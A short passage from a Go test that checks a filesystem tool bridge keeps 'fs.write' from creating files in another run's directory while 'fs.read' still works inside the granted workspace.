	if _, err := os.Lstat(filepath.Join(run, "bridge.req")); err == nil {
		t.Errorf("fs.write created a file in another run's directory")
	}
	// The workspace grants still work.
	if o := f.doWith(t, "fs.read", map[string]any{"path": filepath.Join(f.work, "a.txt")}, d); o.code != "" {
		t.Errorf("fs.read in the workspace: %s %s", o.code, o.err.Message)
	}
}
